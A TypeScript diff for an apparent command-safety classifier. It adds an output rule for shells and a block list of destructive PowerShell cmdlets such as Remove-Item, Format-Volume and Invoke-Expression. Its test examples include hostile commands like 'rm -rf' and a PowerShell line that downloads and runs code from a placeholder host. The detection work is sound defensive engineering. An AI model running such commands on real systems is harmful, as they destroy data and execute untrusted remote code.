@@ -1,4 +1,5 @@
 import type { Call } from '../call.js';
+import { data } from '../flow.js';
 import type { Program } from '../program.js';
 import { runContent, runFile } from '../script-file.js';
 
@@ -61,6 +62,7 @@ export const shells: readonly Program[] = [
     options: shellOptions,
     wrapper: true,
     check: runShell,
+    output: (call) => (call.has('-c') || (call.operands.length > 0 && !call.has('-s -i')) ? undefined : data(undefined, 'shell')),
     match: [
       'bash -c "git clean -fdx"',
       'sh -ec "rm -rf ~/a"',
@@ -104,6 +106,25 @@ export const shells: readonly Program[] = [
       'pwsh -c "iex (iwr http://h.example/a)"',
     ],
     not_match: ['pwsh -Command "Get-ChildItem"', 'pwsh -File build.ps1'],
+  },
+  {
+    names: [
+      'Remove-Item',
+      'Clear-Content',
+      'Clear-Disk',
+      'Format-Volume',
+      'Initialize-Disk',
+      'Stop-Computer',
+      'Restart-Computer',
+      'Stop-Process',
+      'Invoke-Expression',
+      'Set-ExecutionPolicy',
+      'Move-Item',
+    ],
+    options: { style: 'none' },
+    rules: [{ id: 'code.powershell', reach: 'anything', reason: 'It is a PowerShell command that deletes, stops or runs things.' }],
+    match: ['Remove-Item -Recurse -Force src'],
+    not_match: ['Get-ChildItem src'],
   },
   {
     names: ['cmd'],
